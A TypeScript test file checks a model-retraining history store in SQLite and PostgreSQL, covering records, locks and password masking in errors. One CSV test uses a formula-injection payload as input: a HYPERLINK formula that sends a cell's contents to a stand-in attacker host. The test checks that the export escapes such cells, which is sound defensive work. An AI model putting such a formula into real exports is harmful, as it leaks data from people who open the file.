/**
 * The retraining history stores: SQLite in the registry folder (with history.csv and the
 * folder lock) and PostgreSQL against a real throw-away server (advisory lock across
 * stores and processes, registries kept apart, passwords never in a message). The
 * PostgreSQL tests are ignored, never passed, when no server can be run here.
 */
import { assert, assertEquals, assertRejects } from "../../assert.ts";
import { readCsv } from "../../../stages/log/csv.ts";
import { LockHeldError } from "../../../training/lock.ts";
import { UsageError } from "../../../core/errors.ts";
import type { CycleRecord, Figures, RetrainStore } from "../../../training/retrain/store.ts";
import {
  HISTORY_CSV_COLUMNS,
  historyCsv,
  openSqliteStore,
} from "../../../training/retrain/store_sqlite.ts";
import { parseCsv } from "../../../stages/log/csv.ts";
import {
  maskUrl,
  openPostgresStore,
  StoreError,
} from "../../../training/retrain/store_postgres.ts";
import { postgresUnavailable, startPostgres } from "../../_postgres.ts";
import { tempDir } from "../../_temp.ts";

const pgMissing = await postgresUnavailable();
if (pgMissing) console.error(`PostgreSQL store tests ignored: ${pgMissing}`);

/** JSON with sorted keys, so records compare whatever their key order. */
function canon(v: unknown): string {
  return JSON.stringify(
    v,
    (_k, x) =>
      x && typeof x === "object" && !Array.isArray(x)
        ? Object.fromEntries(Object.entries(x).sort(([a], [b]) => a < b ? -1 : 1))
        : x,
  );
}

function assertSame(a: unknown, b: unknown, msg = ""): void {
  assertEquals(canon(a), canon(b), msg);
}

const fig = (accuracy: number): Figures => ({
  accuracy,
  loss: 0.123456789012345,
  recall: { cat: 0.9, "dog, big": 0.8125 },
  count: 640,
});

const running: CycleRecord = {
  id: "c0001",
  started: "2026-01-01T10:00:00.000Z",
  fingerprint: "ab".repeat(32),
  files: 120,
  decision: "running",
  reason: "training",
  host: "trainer-1",
  pid: 4242,
};
const promoted: CycleRecord = {
  ...running,
  ended: "2026-01-01T10:30:00.000Z",
  decision: "promoted",
  reason: 'candidate 0.91 > champion 0.88, "clearly"',
  candidate: fig(0.91),
  champion: fig(0.88),
  championBefore: "c0000",
  championAfter: "c0001",
  exitCode: 0,
};
const kept: CycleRecord = {
  id: "c0002",
  started: "2026-01-02T10:00:00.000Z",
  ended: "2026-01-02T10:20:00.000Z",
  fingerprint: "cd".repeat(32),
  files: 130,
  decision: "kept",
  reason: "candidate 0.87 <= champion 0.91\nkept c0001",
  candidate: fig(0.87),
  champion: fig(0.91),
  championBefore: "c0001",
  championAfter: "c0001",
  exitCode: 0,
  host: "trainer-2",
  pid: 77,
};
const skipped: CycleRecord = {
  id: "c0010",
  started: "2026-01-03T10:00:00.000Z",
  ended: "2026-01-03T10:00:01.000Z",
  fingerprint: "cd".repeat(32),
  files: 130,
  decision: "skipped",
  reason: "data unchanged",
  exitCode: 0,
  host: "trainer-1",
  pid: 99,
};
const rollback: CycleRecord = {
  id: "r0011",
  started: "2026-01-04T10:00:00.000Z",
  ended: "2026-01-04T10:00:00.500Z",
  fingerprint: "cd".repeat(32),
  files: 130,
  decision: "rollback",
  reason: "rolled back to c0000",
  championBefore: "c0001",
  championAfter: "c0000",
  host: "trainer-1",
  pid: 100,
};

/** record (then replace), recent's order, get, lastNumber: the same for every store. */
async function exercise(store: RetrainStore): Promise<void> {
  assertEquals(await store.lastNumber(), 0);
  assertEquals((await store.recent(5)).length, 0);
  assertEquals(await store.get("c0001"), undefined);
  await store.record(running);
  assertSame(await store.get("c0001"), running);
  await store.record(promoted);
  assertSame(await store.get("c0001"), promoted, "the replaced record");
  for (const c of [skipped, kept, rollback]) await store.record(c);
  assertEquals((await store.recent(10)).map((c) => c.id), ["r0011", "c0010", "c0002", "c0001"]);
  assertEquals((await store.recent(2)).map((c) => c.id), ["r0011", "c0010"]);
  assertEquals((await store.recent(0)).length, 0);
  assertEquals((await store.recent(Infinity)).length, 4);
  const got = await store.get("c0010");
  assertSame(got, skipped);
  assert(got && !("candidate" in got) && !("championBefore" in got), canon(got));
  assertSame(await store.get("c0002"), kept);
  assertSame(await store.get("r0011"), rollback);
  assertEquals(await store.lastNumber(), 11);
}

Deno.test("maskUrl replaces the password with *** in every form", () => {
  const cases: [string, string][] = [
    ["postgres://u:secret@db.example:5432/h", "postgres://u:***@db.example:5432/h"],
    ["postgresql://u:p%40ss%2Fw@h/db?sslmode=require", "postgresql://u:***@h/db?sslmode=require"],
    ["postgres://u:p@ss@h/db", "postgres://u:***@h/db"],
    ["postgres://u:@h/db", "postgres://u:***@h/db"],
    ["postgres://u@h/db", "postgres://u@h/db"],
    ["postgres://h:5432/db", "postgres://h:5432/db"],
    ["postgres://h/db?sslmode=require&password=x1", "postgres://h/db?sslmode=require&password=***"],
    ["connect to postgres://a:b@h/db failed", "connect to postgres://a:***@h/db failed"],
    ["postgres://a:b@h/db, mail x@y.z", "postgres://a:***@h/db, mail x@y.z"],
    ["postgres://u:***@h/db", "postgres://u:***@h/db"],
    ["not a url", "not a url"],
  ];
  for (const [url, want] of cases) assertEquals(maskUrl(url), want, url);
});

Deno.test("SQLite store: record, replace, recent, get, lastNumber, history.csv, reopen", async () => {
  const dir = await tempDir();
  try {
    const store = await openSqliteStore(`${dir}/reg`);
    assertEquals(store.where, `${dir}/reg/history.sqlite`);
    await exercise(store);
    const journal = new TextDecoder().decode(
      (await Deno.readFile(`${dir}/reg/history.sqlite`)).subarray(18, 20),
    );
    assertEquals(journal, "\u0002\u0002", "WAL mode (file format bytes 18-19 are 2)");
    await store.close();

    const rows = await readCsv(`${dir}/reg/history.csv`);
    const header = (await Deno.readTextFile(`${dir}/reg/history.csv`)).split("\n")[0];
    assertEquals(header, HISTORY_CSV_COLUMNS.join(","));
    assertEquals(rows.map((r) => r.id), ["c0001", "c0002", "c0010", "r0011"], "oldest first");
    assertSame(rows[0], {
      id: "c0001",
      started: promoted.started,
      ended: promoted.ended,
      decision: "promoted",
      reason: promoted.reason,
      candidate_accuracy: "0.91",
      champion_accuracy: "0.88",
      champion_before: "c0000",
      champion_after: "c0001",
      fingerprint: promoted.fingerprint,
      files: "120",
      exit_code: "0",
      host: "trainer-1",
      pid: "4242",
    });
    assertEquals(rows[1].reason, kept.reason, "a line break survives the CSV");
    assertEquals([rows[2].candidate_accuracy, rows[2].champion_before], ["", ""]);
    assertEquals(rows[3].exit_code, "");
    const left = [...Deno.readDirSync(`${dir}/reg`)].map((e) => e.name).filter((n) =>
      n.includes(".tmp")
    );
    assertEquals(left, [], "no temporary file left");

    const again = await openSqliteStore(`${dir}/reg`);
    assertSame(await again.get("c0001"), promoted, "the history survives a reopen");
    assertEquals(await again.lastNumber(), 11);
    await again.close();
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("history.csv: a text cell a spreadsheet would run as a formula starts with ', numbers stay", () => {
  const bad: CycleRecord = {
    ...running,
    decision: "failed",
    reason: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    host: "@SUM(1+1)",
    exitCode: 1,
  };
  const other = { ...bad, reason: "-2+3", host: "\tx" };
  const [header, first, second, plain] = parseCsv(historyCsv([bad, other, running]));
  const cells = (row: string[], ...names: string[]) => names.map((n) => row[header.indexOf(n)]);
  assertEquals(cells(first, "reason", "host", "exit_code"), [`'${bad.reason}`, "'@SUM(1+1)", "1"]);
  assertEquals(cells(second, "reason", "host"), ["'-2+3", "'\tx"]);
  assertEquals(cells(plain, "reason", "pid"), ["training", "4242"], "plain text unchanged");
});

Deno.test("SQLite store: a held lock makes a second lock() throw LockHeldError", async () => {
  const dir = await tempDir();
  try {
    const a = await openSqliteStore(dir), b = await openSqliteStore(dir);
    const held = await a.lock();
    let err: unknown;
    try {
      await b.lock();
    } catch (e) {
      err = e;
    }
    assert(err instanceof LockHeldError, `expected LockHeldError, got ${err}`);
    assertEquals(err.holder?.pid, Deno.pid);
    assert(err.message.includes(`pid ${Deno.pid}`), err.message);
    await held.release();
    await held.release();
    const again = await b.lock();
    await again.release();
    await a.close();
    await b.close();
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("PostgreSQL store: a bad URL is a UsageError, an unreachable server a masked StoreError", async () => {
  const bad = [
    "mysql://u:pw1@h/db",
    "postgres://u:pw1@h:99999/db",
    "postgres://u:pw1@h:0x/db",
    "postgres://u:%zz@h/d",
  ];
  for (const url of bad) {
    let err: unknown;
    try {
      await openPostgresStore(url, "reg");
    } catch (e) {
      err = e;
    }
    assert(err instanceof UsageError, `${url}: ${err}`);
    assert(err.message.includes("u:***@h"), err.message);
    assert(!err.message.includes("pw1") && !err.message.includes("%zz"), err.message);
  }
  await assertRejects(() => openPostgresStore("postgres://h/db", ""), /needs a registry name/);
  const l = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (l.addr as Deno.NetAddr).port;
  l.close();
  const url = `postgres://u:hunter2@127.0.0.1:${port}/db`;
  let err: unknown;
  try {
    await openPostgresStore(url, "reg");
  } catch (e) {
    err = e;
  }
  assert(err instanceof StoreError, `expected StoreError, got ${err}`);
  assert(err.message.includes(`postgres://u:***@127.0.0.1:${port}/db`), err.message);
  assert(!err.message.includes("hunter2") && !err.message.includes("\n"), err.message);
});

async function expectLockHeld(store: RetrainStore, secret: string[]): Promise<LockHeldError> {
  try {
    const l = await store.lock();
    await l.release();
  } catch (e) {
    assert(e instanceof LockHeldError, `expected LockHeldError, got ${e}`);
    assert(/another cycle holds the advisory lock/.test(e.message), e.message);
    for (const s of secret) assert(!e.message.includes(s), e.message);
    return e;
  }
  throw new Error("the second lock() was granted");
}

Deno.test({
  name: "PostgreSQL store against a real server: history, advisory lock, registries, passwords",
  ignore: pgMissing !== null,
  fn: async () => {
    const pg = await startPostgres();
    assert(pg, "PostgreSQL is installed but the test server did not start (see stderr)");
    const secrets = [pg.password, encodeURIComponent(pg.password)];
    const masked = maskUrl(pg.url);
    const opened: RetrainStore[] = [];
    const open = async (url: string, key: string) => {
      const s = await openPostgresStore(url, key);
      opened.push(s);
      return s;
    };
    const env = ["PGPASSWORD", "PGPASSFILE"].map((k) => [k, Deno.env.get(k)] as const);
    const tmp = await tempDir();
    try {
      assert(masked.includes(":***@") && !secrets.some((s) => masked.includes(s)), masked);
      const a = await open(pg.url, "registry-a");
      assertEquals(a.where, `${masked} (registry registry-a)`);
      await exercise(a);

      // Registries share the database but not their history or their lock.
      const other = await open(pg.url, "registry-b");
      assertEquals(await other.lastNumber(), 0);
      assertEquals((await other.recent(10)).length, 0);

      // Two stores on the same URL and registry: one lock at a time.
      const b = await open(pg.url, "registry-a");
      assertSame(await b.get("c0001"), promoted);
      const held = await a.lock();
      const e = await expectLockHeld(b, secrets);
      assert(e.message.includes(masked), e.message);
      assertEquals(e.holder?.pid, Deno.pid);
      assert(e.message.includes(`pid ${Deno.pid}`), e.message);
      await expectLockHeld(a, secrets); // Not re-entrant within one store either.
      const otherLock = await other.lock();
      await otherLock.release();
      await held.release();
      const bLock = await b.lock();
      await expectLockHeld(a, secrets);
      await bLock.release();

      // A killed holder's lock goes with its connection.
      const child = new Deno.Command(Deno.execPath(), {
        args: [
          "eval",
          `import { openPostgresStore } from "./training/retrain/store_postgres.ts";
           const s = await openPostgresStore(Deno.env.get("TEST_PG_URL"), "registry-a");
           await s.lock(); console.log("locked"); setInterval(() => {}, 1000);`,
        ],
        cwd: new URL("../../../", import.meta.url).pathname,
        env: { TEST_PG_URL: pg.url },
        stdout: "piped",
        stderr: "inherit",
      }).spawn();
      try {
        const reader = child.stdout.getReader();
        const { value } = await reader.read();
        assertEquals(new TextDecoder().decode(value).trim(), "locked");
        reader.releaseLock();
        const ce = await expectLockHeld(a, secrets);
        assertEquals(ce.holder?.pid, child.pid);
      } finally {
        child.kill("SIGKILL");
        await child.status;
        await child.stdout.cancel().catch(() => {});
      }
      let after = null;
      for (let i = 0; i < 50 && !after; i++) {
        after = await a.lock().catch(() => null);
        if (!after) await new Promise((r) => setTimeout(r, 100));
      }
      assert(after, "the killed holder's lock was not freed");
      await after.release();

      // A wrong password: a one-line StoreError naming the masked URL, no password in it.
      const wrong = "wr0ng/pa@ss";
      const wrongUrl = pg.url.replace(encodeURIComponent(pg.password), encodeURIComponent(wrong));
      let err: unknown;
      try {
        await openPostgresStore(wrongUrl, "registry-a");
      } catch (x) {
        err = x;
      }
      assert(err instanceof StoreError, `expected StoreError, got ${err}`);
      assert(err.message.includes("***") && err.message.includes(maskUrl(wrongUrl)), err.message);
      for (const s of [wrong, encodeURIComponent(wrong), ...secrets]) {
        assert(!err.message.includes(s), err.message);
      }
      assert(/password authentication failed/.test(err.message), err.message);

      // No password in the URL: PGPASSWORD, else the password file (only when private).
      const bare = pg.url.replace(`:${encodeURIComponent(pg.password)}@`, "@");
      const port = new URL(pg.url).port;
      Deno.env.delete("PGPASSWORD");
      const passfile = `${tmp}/pgpass`;
      await Deno.writeTextFile(
        passfile,
        `# test\nother:*:*:*:nope\n127.0.0.1:${port}:postgres:webgpu_test:${pg.password}\n`,
        { mode: 0o600 },
      );
      await Deno.chmod(passfile, 0o600);
      Deno.env.set("PGPASSFILE", passfile);
      const viaFile = await open(bare, "registry-a");
      assertEquals(await viaFile.lastNumber(), 11);
      await Deno.chmod(passfile, 0o644);
      let ignored: unknown;
      try {
        await openPostgresStore(bare, "registry-a");
      } catch (x) {
        ignored = x;
      }
      assert(ignored instanceof StoreError, `expected StoreError, got ${ignored}`);
      assert(/ignored: group or others can read it/.test(ignored.message), ignored.message);
      Deno.env.delete("PGPASSFILE");
      Deno.env.set("PGPASSWORD", pg.password);
      const viaEnv = await open(bare, "registry-a");
      assertEquals(await viaEnv.lastNumber(), 11);
      assert(!secrets.some((s) => viaEnv.where.includes(s)), viaEnv.where);
    } finally {
      for (const [k, v] of env) v === undefined ? Deno.env.delete(k) : Deno.env.set(k, v);
      for (const s of opened) await s.close();
      await Deno.remove(tmp, { recursive: true });
      await pg.stop();
    }
  },
});
